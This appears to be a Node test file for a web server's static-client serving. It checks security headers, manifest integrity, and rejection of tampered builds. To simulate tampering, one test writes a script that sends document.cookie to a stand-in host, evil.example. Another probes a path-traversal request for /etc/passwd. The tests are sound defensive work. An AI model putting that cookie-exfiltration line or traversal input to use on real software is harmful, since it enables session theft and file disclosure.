// The web client's build served at `/` (config.webRoot): its files under the client's policy,
// its manifest at the well-known path, nothing the manifest does not list, and no start at
// all when the build on disk does not match its manifest.
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { ConfigError, createServer, WEB_BUNDLE_MANIFEST_PATH, WEB_CSP } from '@ghostproof/server';
import { startServer, type Harness } from './helpers/harness.js';

const sha256 = (bytes: string | Buffer) => createHash('sha256').update(bytes).digest('hex');

/** A small build as `npm run build:web` lays it out, with its manifest. */
function writeBuild(dir: string): void {
  const files: Record<string, string> = {
    'index.html':
      '<!doctype html><title>Ghostproof</title><script type="module" src="/assets/index-abc.js"></script>',
    'assets/index-abc.js': 'export const hello = "world";\n'.repeat(40),
    'assets/index-abc.css': 'body { margin: 0; }\n',
  };
  mkdirSync(join(dir, 'assets'), { recursive: true });
  const hashes: Record<string, string> = {};
  let listing = '';
  for (const path of Object.keys(files).sort()) {
    writeFileSync(join(dir, path), files[path]!);
    hashes[path] = sha256(files[path]!);
    listing += `${hashes[path]}  ${path}\n`;
  }
  writeFileSync(join(dir, 'secret.txt'), 'not part of the build');
  writeFileSync(
    join(dir, 'ghostproof-web-bundle.json'),
    JSON.stringify({ version: 1, bundleSha256: sha256(listing), files: hashes }, null, 2),
  );
}

describe('web client at /', () => {
  let web: string;
  let h: Harness;

  before(async () => {
    web = mkdtempSync(join(tmpdir(), 'ghostproof-web-root-'));
    writeBuild(web);
    h = await startServer({ webRoot: web });
  });

  after(async () => {
    await h.stop();
    rmSync(web, { recursive: true, force: true });
  });

  it('serves index.html at / under the client’s policy, revalidated on every load', async () => {
    for (const path of ['/', '/index.html']) {
      const res = await fetch(new URL(path, h.url));
      assert.equal(res.status, 200);
      assert.match(await res.text(), /<title>Ghostproof<\/title>/);
      assert.equal(res.headers.get('content-security-policy'), WEB_CSP);
      assert.equal(res.headers.get('cache-control'), 'no-cache');
      assert.match(res.headers.get('content-type') ?? '', /^text\/html/);
      assert.equal(res.headers.get('x-frame-options'), 'DENY');
    }
    assert.doesNotMatch(WEB_CSP, /unsafe-inline|unsafe-eval/);
  });

  it('serves the hashed assets gzip’d and cacheable for good', async () => {
    const res = await fetch(new URL('/assets/index-abc.js', h.url), {
      headers: { 'accept-encoding': 'gzip' },
    });
    assert.equal(res.status, 200);
    assert.equal(res.headers.get('content-encoding'), 'gzip');
    assert.equal(res.headers.get('cache-control'), 'public, max-age=31536000, immutable');
    assert.match(await res.text(), /hello/);
  });

  it('publishes the bundle manifest at the well-known path, as built', async () => {
    const res = await fetch(new URL(WEB_BUNDLE_MANIFEST_PATH, h.url));
    assert.equal(res.status, 200);
    assert.equal(await res.text(), readFileSync(join(web, 'ghostproof-web-bundle.json'), 'utf8'));
    const manifest = JSON.parse(readFileSync(join(web, 'ghostproof-web-bundle.json'), 'utf8')) as {
      bundleSha256: string;
    };
    assert.equal(h.server.webBundleSha256, manifest.bundleSha256);
  });

  it('serves nothing the manifest does not list, and the API as before', async () => {
    for (const path of ['/secret.txt', '/assets/../secret.txt', '/%2e%2e/%2e%2e/etc/passwd', '/assets/']) {
      const res = await fetch(new URL(path, h.url));
      assert.equal(res.status, 404, path);
      assert.notEqual(res.headers.get('content-security-policy'), WEB_CSP);
      await res.arrayBuffer();
    }
    const health = await fetch(new URL('/health', h.url));
    assert.deepEqual(await health.json(), { status: 'ok' });
  });

  it('refuses to start on a build that no longer matches its manifest, or has none', async () => {
    const dataDir = mkdtempSync(join(tmpdir(), 'ghostproof-web-data-'));
    const altered = mkdtempSync(join(tmpdir(), 'ghostproof-web-altered-'));
    try {
      writeBuild(altered);
      writeFileSync(
        join(altered, 'assets', 'index-abc.js'),
        'fetch("https://evil.example/" + document.cookie)',
      );
      await assert.rejects(
        createServer({ dataDir, port: 0, log: { level: 'silent' }, webRoot: altered }),
        (err) => err instanceof ConfigError && /does not match/.test(err.message),
      );
      rmSync(join(altered, 'ghostproof-web-bundle.json'));
      await assert.rejects(
        createServer({ dataDir, port: 0, log: { level: 'silent' }, webRoot: altered }),
        (err) => err instanceof ConfigError && /run npm run build:web/.test(err.message),
      );
    } finally {
      rmSync(dataDir, { recursive: true, force: true });
      rmSync(altered, { recursive: true, force: true });
    }
  });
});
